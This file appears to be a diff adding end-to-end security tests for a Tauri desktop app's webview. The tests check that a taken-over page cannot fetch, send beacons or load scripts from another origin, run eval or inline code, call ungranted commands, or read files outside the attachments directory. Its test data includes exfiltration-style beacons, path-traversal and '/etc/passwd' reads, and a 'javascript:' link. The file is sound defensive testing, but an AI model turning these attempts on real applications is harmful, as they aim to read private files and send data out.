@@ -1,0 +1,252 @@
+"""What a page that was taken over would try, in the real window: each door is closed."""
+
+from __future__ import annotations
+
+import http.server
+import sys
+import threading
+from collections.abc import Iterator
+from contextlib import contextmanager
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.e2e.display import virtual_display
+from tests.e2e.first_launch import draw_picture
+from tests.e2e.window import Window, open_window
+
+pytestmark = [
+    pytest.mark.skipif(sys.platform != "linux", reason="WebKit's driver for app windows exists on Linux only"),
+    pytest.mark.timeout(180),
+]
+
+PATIENCE = 20
+"""Seconds that the page may take to tell how an attempt ended."""
+
+# Runs an attempt and tells how it ended: the directive of the content security policy that stopped it, or `done(…)`.
+_ATTEMPT = """
+const done = arguments[arguments.length - 1];
+document.addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective), { once: true });
+"""
+
+# What `invoke` of @tauri-apps/api does.
+_INVOKE = """
+const [command, payload, done] = arguments;
+const internals = window.__TAURI_INTERNALS__;
+if ("onEvent" in payload) payload.onEvent = `__CHANNEL__:${internals.transformCallback(() => {})}`;
+internals.invoke(command, payload).then((answer) => done({ answer }), (refusal) => done({ refusal }));
+"""
+
+# Hands a picture to the shell as a paste does, and shows what the shell then has of it.
+_KEEP_AND_SHOW = """
+const [bytes, done] = arguments;
+const { invoke } = window.__TAURI_INTERNALS__;
+(async () => {
+  const { url } = await invoke("attach_bytes", new Uint8Array(bytes), { headers: { "x-name": "a.png" } });
+  const kept = await invoke("attachment_bytes", { url });
+  const image = new Image();
+  image.src = URL.createObjectURL(new Blob([kept], { type: "image/png" }));
+  await image.decode();
+  done({ bytes: [...new Uint8Array(kept)], width: image.naturalWidth });
+})().catch((refusal) => done({ refusal }));
+"""
+
+
+@dataclass
+class Outside:
+    """A server that lets every page read it; `requests` are the paths that were asked of it."""
+
+    url: str
+    requests: list[str] = field(default_factory=list)
+
+
+@pytest.fixture(scope="module")
+def data_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return tmp_path_factory.mktemp("closed-doors") / "data"
+
+
+@pytest.fixture(scope="module")
+def window(data_dir: Path) -> Iterator[Window]:
+    """One window for all attempts: a refusal leaves nothing that the next would meet."""
+    home = data_dir.parent
+    with (
+        virtual_display() as display,
+        open_window(["--data-dir", str(data_dir)], display=display, pictures=home, home=home) as window,
+    ):
+        window.driver.set_script_timeout(PATIENCE)
+        window.by_role("button", "Download")  # the page has started, and the sidecar has answered it
+        yield window
+
+
+@pytest.fixture
+def outside() -> Iterator[Outside]:
+    with _server() as server:
+        yield server
+
+
+def test_a_page_cannot_fetch_from_another_origin(window: Window, outside: Outside) -> None:
+    ended = attempt(window, "fetch(arguments[0]).then(() => done('fetched'), () => undefined);", outside.url)
+    assert ended == "connect-src"
+    assert outside.requests == []
+
+
+def test_a_page_cannot_send_a_beacon_to_another_origin(window: Window, outside: Outside) -> None:
+    assert attempt(window, "navigator.sendBeacon(arguments[0], 'secret');", outside.url) == "connect-src"
+    assert outside.requests == []
+
+
+def test_a_page_cannot_show_a_remote_image(window: Window, outside: Outside) -> None:
+    script = "const image = new Image(); image.onload = () => done('loaded'); image.src = arguments[0];"
+    assert attempt(window, script, f"{outside.url}/pixel.png") == "img-src"
+    assert outside.requests == []
+
+
+def test_a_page_cannot_load_a_remote_script(window: Window, outside: Outside) -> None:
+    script = """
+        const script = document.createElement("script");
+        script.onload = () => done("loaded");
+        script.src = arguments[0];
+        document.head.append(script);
+    """
+    assert attempt(window, script, f"{outside.url}/script.js") in {"script-src", "script-src-elem"}
+    assert outside.requests == []
+
+
+@pytest.mark.parametrize("expression", ["eval('1 + 1')", "new Function('return 2')()"])
+def test_a_page_cannot_run_a_text_as_code(window: Window, expression: str) -> None:
+    script = f"try {{ return {expression}; }} catch (error) {{ return error.name; }}"
+    assert window.driver.execute_script(script) == "EvalError"
+
+
+def test_a_page_cannot_run_an_inline_script(window: Window) -> None:
+    script = """
+        const script = document.createElement("script");
+        script.textContent = "window.inlineScriptRan = true";
+        document.head.append(script);
+        script.remove();
+        if (window.inlineScriptRan) done("it ran");
+    """
+    assert attempt(window, script) in {"script-src", "script-src-elem"}
+
+
+def test_an_inline_style_has_no_effect(window: Window) -> None:
+    script = """
+        const box = document.createElement("div");
+        box.innerHTML = "<p style='position: fixed; color: rgb(1, 2, 3)'>styled</p>";
+        document.body.append(box);
+        const { color } = getComputedStyle(box.firstChild);
+        box.remove();
+        if (color === "rgb(1, 2, 3)") done("it was styled");
+    """
+    assert attempt(window, script) in {"style-src", "style-src-attr"}
+
+
+def test_a_style_element_has_no_effect(window: Window) -> None:
+    script = """
+        const style = document.createElement("style");
+        style.textContent = "body { outline-color: rgb(1, 2, 3) }";
+        document.head.append(style);
+        const { outlineColor } = getComputedStyle(document.body);
+        style.remove();
+        if (outlineColor === "rgb(1, 2, 3)") done("it was styled");
+    """
+    assert attempt(window, script) in {"style-src", "style-src-elem"}
+
+
+def test_a_method_made_for_the_window_is_answered(window: Window) -> None:
+    assert "models" in call(window, "models/list")["answer"]
+
+
+@pytest.mark.parametrize("method", ["shutdown", "initialize", "rpc.discover", "$/cancelRequest", "no/such"])
+def test_a_method_not_made_for_the_window_does_not_exist_for_it(window: Window, method: str) -> None:
+    assert call(window, method)["refusal"]["kind"] == "method_not_found"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "plugin:store|load",
+        "plugin:store|get",
+        "plugin:dialog|open",
+        "plugin:opener|open_url",
+        "plugin:opener|open_path",
+        "plugin:event|emit",
+        "plugin:webview|create_webview_window",
+        "plugin:path|resolve_directory",
+    ],
+)
+def test_a_command_that_is_not_granted_is_refused(window: Window, command: str) -> None:
+    assert "not allowed" in invoke(window, command)["refusal"]
+
+
+def test_a_path_that_nobody_offered_is_not_attached(window: Window, data_dir: Path, tmp_path: Path) -> None:
+    kept = pictures_in(data_dir)
+    picture = draw_picture(tmp_path / "private.png")
+    assert invoke(window, "attach_paths", {"paths": [str(picture)]})["refusal"]["kind"] == "invalid_params"
+    assert pictures_in(data_dir) == kept
+
+
+def test_a_picture_that_was_pasted_is_read_back_and_shown(window: Window, tmp_path: Path) -> None:
+    picture = draw_picture(tmp_path / "a.png").read_bytes()
+    shown = window.driver.execute_async_script(_KEEP_AND_SHOW, list(picture))
+    assert shown == {"bytes": list(picture), "width": 320}
+
+
+@pytest.mark.parametrize("url", ["attachment:../shell.json", "attachment:/etc/passwd", "file:///etc/passwd", ""])
+def test_nothing_beside_the_attachments_is_read(window: Window, url: str) -> None:
+    assert invoke(window, "attachment_bytes", {"url": url})["refusal"]["kind"] == "invalid_params"
+
+
+@pytest.mark.parametrize("url", ["file:///etc/passwd", "javascript:alert(1)", "ssh://host"])
+def test_a_link_that_is_not_of_the_web_is_not_opened(window: Window, url: str) -> None:
+    assert invoke(window, "open_link", {"url": url})["refusal"]["kind"] == "invalid_params"
+
+
+def attempt(window: Window, script: str, *arguments: str) -> Any:
+    """Which directive stopped the script, or what it says itself of how it went."""
+    return window.driver.execute_async_script(_ATTEMPT + script, *arguments)
+
+
+def invoke(window: Window, command: str, payload: dict[str, Any] | None = None) -> dict[str, Any]:
+    """How a command ended: `{"answer": …}` or `{"refusal": …}`."""
+    ended: dict[str, Any] = window.driver.execute_async_script(_INVOKE, command, payload or {})
+    return ended
+
+
+def call(window: Window, method: str) -> dict[str, Any]:
+    """How a method of the sidecar ended, asked as the window asks."""
+    request_id = f"closed-doors {method}"
+    return invoke(window, "rpc_call", {"requestId": request_id, "method": method, "params": {}, "onEvent": None})
+
+
+def pictures_in(data_dir: Path) -> set[Path]:
+    return set((data_dir / "attachments").glob("*"))
+
+
+@contextmanager
+def _server() -> Iterator[Outside]:
+    requests: list[str] = []
+
+    class Answer(http.server.BaseHTTPRequestHandler):
+        def answer(self) -> None:
+            requests.append(self.path)
+            self.send_response(200)
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.end_headers()
+
+        def log_request(self, code: object = "-", size: object = "-") -> None:
+            """Keeps the test's output free of it."""
+
+    for verb in ("GET", "OPTIONS", "POST"):
+        setattr(Answer, f"do_{verb}", Answer.answer)
+
+    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Answer) as server:
+        thread = threading.Thread(target=server.serve_forever, name="outside")
+        thread.start()
+        try:
+            yield Outside(f"http://127.0.0.1:{server.server_port}", requests)
+        finally:
+            server.shutdown()
+            thread.join()
